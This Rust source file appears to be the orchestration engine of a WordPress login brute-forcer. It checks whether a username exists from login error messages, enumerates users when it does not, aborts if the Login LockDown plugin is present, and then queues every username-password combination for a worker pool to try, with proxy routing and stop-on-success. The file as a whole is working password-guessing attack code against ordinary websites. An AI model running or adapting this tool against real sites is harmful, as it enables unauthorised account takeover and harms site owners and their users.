//! Run orchestration: pre-flight checks, task production, worker pool
//! and progress feedback.

use crate::core::context::Config;
use crate::core::rate_limit::RateLimiter;
use crate::http::client::{Probe, ProbeClient};
use crate::pool::monitor::ProgressMonitor;
use crate::pool::queue::TaskQueue;
use crate::pool::task::{login_form, Task, TaskRunner};
use crate::pool::worker::WorkerPool;
use crate::scanner::classify::{
    classify_plugin, LoginClassifier, PluginVerdict, SignatureClassifier, UserVerdict,
};
use crate::scanner::enumerate::{EnumerationEnd, EnumerationReport, UserEnumerator};
use crate::wordlist;
use std::sync::Arc;
use tracing::{debug, error, info, warn};
use url::Url;

/// Throwaway password for the does-this-user-exist probe. Any value
/// works; the classifier only looks at the error signature.
const PROBE_PASSWORD: &str = "sledge-probe";

const LOCKDOWN_PLUGIN_PATH: &str = "wp-content/plugins/login-lockdown/";

pub struct Engine {
    config: Arc<Config>,
}

impl Engine {
    pub fn new(config: Config) -> anyhow::Result<Self> {
        Ok(Self {
            config: Arc::new(config),
        })
    }

    pub async fn run(&self) -> anyhow::Result<()> {
        let config = &self.config;

        let limiter = RateLimiter::new(config.rate);
        let probe: Arc<dyn Probe> =
            Arc::new(ProbeClient::new(config.proxy.as_deref(), config.timeout, limiter)?);
        let classifier: Arc<dyn LoginClassifier> = Arc::new(SignatureClassifier::default());

        info!("target URL: {}", config.base_url);

        let enumerator = UserEnumerator::new(
            config.base_url.clone(),
            1,
            config.gap_tolerance,
            config.max_transport_errors,
        );

        if config.enumerate_only {
            info!("enumerating users...");
            let report = enumerator.run(probe.as_ref()).await;
            report_usernames(&report);
            return Ok(());
        }

        info!("checking URL & username...");
        let usernames = self
            .resolve_usernames(probe.as_ref(), classifier.as_ref(), &enumerator)
            .await?;

        debug!("checking for Login LockDown plugin");
        if self.lockdown_active(probe.as_ref()).await {
            error!("Login LockDown plugin is active, bruteforce would be useless");
            return Ok(());
        }

        let queue = Arc::new(TaskQueue::new());

        if config.fingerprint {
            queue.enqueue(Task::fingerprint(
                config.base_url.clone(),
                &config.script_path,
            ));
        }

        if let Some(path) = &config.plugin_list {
            let plugins = wordlist::loader::load_lines(path)?;
            info!("{} plugins will be tested", plugins.len());
            for plugin in &plugins {
                queue.enqueue(Task::plugin_check(
                    config.base_url.clone(),
                    &config.script_path,
                    plugin,
                ));
            }
        }

        let passwords = wordlist::assemble(config, probe.as_ref(), &usernames).await;
        info!(
            "{} passwords will be tested",
            passwords.len() * usernames.len()
        );
        for username in &usernames {
            for password in &passwords {
                queue.enqueue(Task::login(
                    config.base_url.clone(),
                    &config.script_path,
                    username,
                    password,
                ));
            }
        }

        info!("starting {} workers...", config.workers);
        let runner = Arc::new(TaskRunner::new(
            Arc::clone(&probe),
            Arc::clone(&classifier),
            config.stop_on_success,
        ));
        let pool = WorkerPool::start(Arc::clone(&queue), config.workers, runner);
        let mut monitor = ProgressMonitor::new(Arc::clone(&queue), config.poll_interval);

        loop {
            tokio::select! {
                sample = monitor.next() => match sample {
                    Some(sample) => info!("{}", sample),
                    None => break,
                },
                _ = tokio::signal::ctrl_c() => {
                    info!("interrupt received, clearing queue and stopping workers...");
                    pool.cancel();
                    break;
                }
            }
        }

        let completed = pool.wait().await;
        info!("done, {} tasks executed", completed);
        Ok(())
    }

    /// Confirm the configured username exists; fall back to enumeration
    /// when the login form says it doesn't.
    async fn resolve_usernames(
        &self,
        probe: &dyn Probe,
        classifier: &dyn LoginClassifier,
        enumerator: &UserEnumerator,
    ) -> anyhow::Result<Vec<String>> {
        let config = &self.config;
        let fields = login_form(&config.username, PROBE_PASSWORD);

        match probe.post_form(&config.login_url(), &fields).await {
            Ok(response) => {
                if classifier.classify_user(&response) == UserVerdict::Known {
                    return Ok(vec![config.username.clone()]);
                }
            }
            Err(err) => {
                if config.proxy.is_some() {
                    info!("check if the proxy is well configured and running");
                }
                anyhow::bail!("HTTP error on {}: {}", config.login_url(), err);
            }
        }

        warn!("possible non-existent username: {}", config.username);
        info!("enumerating users...");
        let report = enumerator.run(probe).await;
        report_usernames(&report);
        if report.usernames.is_empty() {
            anyhow::bail!("can't find a valid username");
        }
        Ok(report.usernames)
    }

    /// The in-run fatal path catches lockouts mid-bruteforce; this
    /// pre-check avoids starting a run that is already pointless.
    async fn lockdown_active(&self, probe: &dyn Probe) -> bool {
        let url: Url = match self.config.base_url.join(LOCKDOWN_PLUGIN_PATH) {
            Ok(url) => url,
            Err(_) => return false,
        };
        match probe.get(&url).await {
            Ok(response) => classify_plugin(&response) == PluginVerdict::Detected,
            // an unreachable plugin path proves nothing
            Err(_) => false,
        }
    }
}

fn report_usernames(report: &EnumerationReport) {
    if report.end == EnumerationEnd::Aborted {
        warn!("enumeration gave up early, results are partial");
    }
    if report.usernames.is_empty() {
        info!("no usernames found");
    } else {
        info!("usernames: {}", report.usernames.join(", "));
    }
}
